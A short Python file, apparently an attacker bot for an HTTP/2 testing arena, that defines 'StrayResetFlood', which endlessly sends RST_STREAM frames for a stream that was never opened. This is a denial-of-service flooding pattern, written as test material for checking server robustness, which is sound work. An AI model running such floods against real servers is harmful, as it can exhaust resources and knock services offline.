"""Resets streams that there never were, without end."""

from rawhttp2 import RST_STREAM, RawBot, frame, number

from arenabot.v1 import player_pb2 as player


class StrayResetFlood(RawBot):
    def attack(self, request: player.PlayRequest) -> None:
        self.flood(frame(RST_STREAM, number(8), stream=99))


if __name__ == "__main__":
    StrayResetFlood().serve()
